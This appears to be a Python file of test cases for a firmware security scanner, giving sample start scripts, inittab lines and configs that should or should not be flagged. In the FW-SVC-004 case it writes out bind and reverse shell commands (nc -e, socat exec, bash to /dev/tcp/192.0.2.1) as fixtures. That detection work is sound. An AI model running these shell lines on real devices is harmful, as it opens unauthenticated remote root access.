"""Cases of the checks on what is started, consoles and boot arguments."""

from material.check_cases import Cases, Given

_S = "/etc/init.d/S50x"


def script(body: str) -> dict[str, object]:
    """A root file system with one start script."""
    return {_S: f"#!/bin/sh\n{body}\n"}


CASES = [
    Cases(
        "FW-SVC-001",
        fails={
            "a root shell in inittab": (
                {"/etc/inittab": "::respawn:/usr/sbin/telnetd -F -l /bin/sh\n"},
                ("/etc/inittab:1",),
            ),
            "by a variable": (
                script("DAEMON=/usr/sbin/telnetd\nstart-stop-daemon -S -x $DAEMON"),
                (f"{_S}:3",),
            ),
            "procd": (
                {
                    "/etc/rc.d/S50telnet": "->../init.d/telnet",
                    "/etc/init.d/telnet": "#!/bin/sh /etc/rc.common\nstart_service() {\nprocd_open_instance\nprocd_set_param command /usr/sbin/telnetd -F -l /bin/login.sh\n}\n",
                },
                ("/etc/init.d/telnet:4",),
            ),
            "inetd": (
                {"/etc/inetd.conf": "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -i\n"},
                ("/etc/inetd.conf:1",),
            ),
            "xinetd": (
                {
                    "/etc/xinetd.d/telnet": "service telnet\n{\n disable = no\n server = /usr/sbin/in.telnetd\n}\n"
                },
                ("/etc/xinetd.d/telnet:4",),
            ),
            "systemd": (
                {
                    "/etc/systemd/system/multi-user.target.wants/t.service": "->/lib/systemd/system/t.service",
                    "/lib/systemd/system/t.service": "[Service]\nExecStart=-/usr/sbin/telnetd -F\n",
                },
                ("/lib/systemd/system/t.service:2",),
            ),
            "a script that a script reads in": (
                {"/etc/init.d/rcS": "#!/bin/sh\n. /etc/rc.app\n", "/etc/rc.app": "busybox telnetd &\n"},
                ("/etc/rc.app:1",),
            ),
            "cron": (
                {"/etc/crontabs/root": "* * * * * /usr/sbin/telnetd -p 2323\n"},
                ("/etc/crontabs/root:1",),
            ),
        },
        passes={"SSH only": script("dropbear -R")},
        near_misses={
            "a comment": script("# telnetd -l /bin/sh\ndropbear"),
            "an echo": script("echo 'starting telnetd -l /bin/sh'"),
            "stopping it": script("killall telnetd\nstart-stop-daemon -K -x /usr/sbin/telnetd\nlogger ok"),
            "a here-document": script("cat <<EOF\ntelnetd -l /bin/sh\nEOF\nsyslogd"),
            "a script that may not run": {
                _S: ("#!/bin/sh\ntelnetd\n", 0o644),
                "/etc/inittab": "::sysinit:/bin/mount -a\n",
            },
            "off in inittab": {"/etc/inittab": "::off:/usr/sbin/telnetd\n::sysinit:/bin/mount -a\n"},
            "disabled in xinetd": {
                "/etc/xinetd.d/t": "disable = yes\nserver = /usr/sbin/telnetd\n",
                "/etc/inittab": "::sysinit:/bin/mount -a\n",
            },
            "a masked unit": {
                "/etc/systemd/system/x.wants/t.service": "->x",
                "/etc/systemd/system/t.service": "->/dev/null",
                "/etc/inittab": "::sysinit:/bin/mount -a\n",
            },
            "the client": script("telnet host 23"),
        },
    ),
    Cases(
        "FW-SVC-002",
        fails={
            "FTP": (script("vsftpd /etc/vsftpd.conf &"), (f"{_S}:2",)),
            "BusyBox": (script("tcpsvd -vE 0.0.0.0 21 ftpd -w /mnt &"), (f"{_S}:2",)),
            "TFTP by inetd": (
                {"/etc/inetd.conf": "tftp dgram udp wait root /usr/sbin/tcpd in.tftpd /srv\n"},
                ("/etc/inetd.conf:1",),
            ),
        },
        passes={"SFTP": script("/usr/sbin/sshd")},
        near_misses={
            "the client": script("ftpget host a b"),
            "a commented service": {
                "/etc/inetd.conf": "#ftp stream tcp nowait root /usr/sbin/ftpd ftpd\n",
                "/etc/inittab": "::sysinit:/x\n",
            },
        },
    ),
    Cases(
        "FW-SVC-003",
        fails={
            "gdbserver, though it is missing": (script("gdbserver :2345 /usr/bin/app"), (f"{_S}:2",)),
            "adbd": ({"/etc/inittab": "::respawn:/usr/bin/adbd\n"}, ("/etc/inittab:1",)),
        },
        passes={"the product alone": script("/usr/bin/app")},
        near_misses={
            "present but not started": {"/usr/bin/gdbserver": b"\x7fELF", **script("/usr/bin/app")},
            "a comment": script("#tcpdump -i eth0 -w /tmp/x &\n/usr/bin/app"),
        },
    ),
    Cases(
        "FW-SVC-004",
        fails={
            "nc -e": ({"/usr/bin/dbg.sh": "#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n"}, ("/usr/bin/dbg.sh:2",)),
            "socat": (script("socat tcp-listen:4444 exec:/bin/bash,pty"), (f"{_S}:2",)),
            "bash": (script("bash -i >& /dev/tcp/192.0.2.1/443 0>&1"), (f"{_S}:2",)),
        },
        passes={"a port test": script("nc -z host 80")},
        near_misses={
            "an echo": script('echo "nc -l -e /bin/sh"'),
            "another program": script("nc -l -p 7 -e /usr/bin/clock"),
        },
    ),
    Cases(
        "FW-SVC-005",
        fails={
            "vsftpd": ({"/etc/vsftpd.conf": "listen=YES\nanonymous_enable=YES\n"}, ("/etc/vsftpd.conf:2",))
        },
        passes={"refused": {"/etc/vsftpd.conf": "anonymous_enable=NO\n"}},
        near_misses={
            "a comment": {"/etc/vsftpd.conf": "# anonymous_enable=YES\nlisten=YES\n"},
            "another program's key": {"/etc/x.conf": "anonymous_enable=YES\n"},
        },
    ),
    Cases(
        "FW-SVC-006",
        fails={
            "read": ({"/etc/snmp/snmpd.conf": "rocommunity public\n"}, ("/etc/snmp/snmpd.conf:1",)),
            "write": ({"/etc/snmp/snmpd.conf": "com2sec rw default private\n"}, ("/etc/snmp/snmpd.conf:1",)),
        },
        passes={"version 3": {"/etc/snmp/snmpd.conf": "rouser monitor priv\n"}},
        near_misses={
            "this host only": {"/etc/snmp/snmpd.conf": "rocommunity public 127.0.0.1\n"},
            "a comment": {"/etc/snmp/snmpd.conf": "#rocommunity public\n"},
        },
    ),
    Cases(
        "FW-SVC-007",
        fails={
            "without secure mode": (
                {**script("miniupnpd -f /etc/miniupnpd.conf"), "/etc/miniupnpd.conf": "secure_mode=no\n"},
                ("/etc/miniupnpd.conf:1",),
            )
        },
        passes={
            "with it": {
                **script("miniupnpd -f /etc/miniupnpd.conf"),
                "/etc/miniupnpd.conf": "secure_mode=yes\n",
            }
        },
        near_misses={"never started": {"/etc/miniupnpd.conf": "secure_mode=no\n"}},
    ),
    Cases(
        "FW-SVC-008",
        fails={
            "mosquitto": (
                {"/etc/mosquitto/mosquitto.conf": "listener 1883\nallow_anonymous true\n"},
                ("/etc/mosquitto/mosquitto.conf:2",),
            ),
            "redis": ({"/etc/redis.conf": "protected-mode no\n"}, ("/etc/redis.conf:1",)),
        },
        passes={"with a login": {"/etc/mosquitto/mosquitto.conf": "listener 8883\nallow_anonymous false\n"}},
        near_misses={
            "this host only": {
                "/etc/mosquitto/mosquitto.conf": "listener 1883 127.0.0.1\nallow_anonymous true\n"
            },
            "a comment": {"/etc/mosquitto/mosquitto.conf": "#allow_anonymous true\n"},
        },
    ),
    Cases(
        "FW-SVC-009",
        fails={
            "Samba": (
                {"/etc/samba/smb.conf": "[global]\nworkgroup=X\n[usb]\npath=/mnt\nguest ok = yes\n"},
                ("/etc/samba/smb.conf:5",),
            ),
            "NFS": ({"/etc/exports": "/mnt *(rw,no_root_squash)\n"}, ("/etc/exports:1",)),
        },
        passes={"with a login": {"/etc/samba/smb.conf": "[usb]\nguest ok = no\n"}},
        near_misses={
            "printers": {"/etc/samba/smb.conf": "[printers]\nguest ok = yes\n"},
            "read only, one host": {"/etc/exports": "/mnt 192.168.1.2(ro)\n"},
        },
    ),
    Cases(
        "FW-CON-001",
        fails={
            "respawn": ({"/etc/inittab": "ttyS0::respawn:-/bin/sh\n"}, ("/etc/inittab:1",)),
            "askfirst": ({"/etc/inittab": "::askfirst:-/bin/ash\n"}, ("/etc/inittab:1",)),
            "getty that skips the login": (
                {"/etc/inittab": "ttyAMA0::respawn:/sbin/getty -n -l /bin/sh 115200 ttyAMA0\n"},
                ("/etc/inittab:1",),
            ),
            "systemd autologin": (
                {
                    "/etc/systemd/system/getty.target.wants/serial-getty@ttyS0.service": "->/lib/systemd/system/serial-getty@.service",
                    "/lib/systemd/system/serial-getty@.service": "[Service]\nExecStart=-/sbin/agetty --autologin root ttyS0\n",
                },
                ("/lib/systemd/system/serial-getty@.service:2",),
            ),
            "OpenWrt without ttylogin": (
                {"/etc/inittab": "::askconsole:/usr/libexec/login.sh\n"},
                ("/etc/inittab:1",),
            ),
        },
        passes={"getty": {"/etc/inittab": "ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n"}},
        near_misses={
            "a commented line": {"/etc/inittab": "#ttyS0::respawn:-/bin/sh\n::sysinit:/etc/init.d/rcS\n"},
            "a shell that runs a script": {"/etc/inittab": "::sysinit:/bin/sh /etc/rc\n"},
            "OpenWrt with ttylogin": {
                "/etc/inittab": "::askconsole:/usr/libexec/login.sh\n",
                "/etc/config/system": "config system\n\toption ttylogin '1'\n",
            },
        },
    ),
    Cases(
        "FW-BOOT-001",
        fails={
            "init=/bin/sh": (
                Given({}, environment={"bootargs": "console=ttyS0 init=/bin/sh"}),
                ("u-boot-env",),
            ),
            "single": (
                {"/boot/cmdline.txt": "console=ttyS0 root=/dev/mmcblk0p2 single\n"},
                ("/boot/cmdline.txt:1",),
            ),
        },
        passes={"the usual": Given({}, environment={"bootargs": "console=ttyS0 root=/dev/mtdblock3"})},
        near_misses={
            "an init of one's own": Given(
                {}, environment={"bootargs": "init=/sbin/init", "bootcmd": "single"}
            ),
            "a path that begins alike": Given({}, environment={"bootargs": "init=/bin/shinit"}),
        },
    ),
    Cases(
        "FW-BOOT-002",
        fails={"three seconds": (Given({}, environment={"bootdelay": "3"}), ("u-boot-env",))},
        passes={"never": Given({}, environment={"bootdelay": "-2"})},
        near_misses={
            "a stop key is set": Given({}, environment={"bootdelay": "3", "bootstopkeysha256": "ab"}),
            "no delay": Given({}, environment={"bootdelay": "0"}),
        },
    ),
]
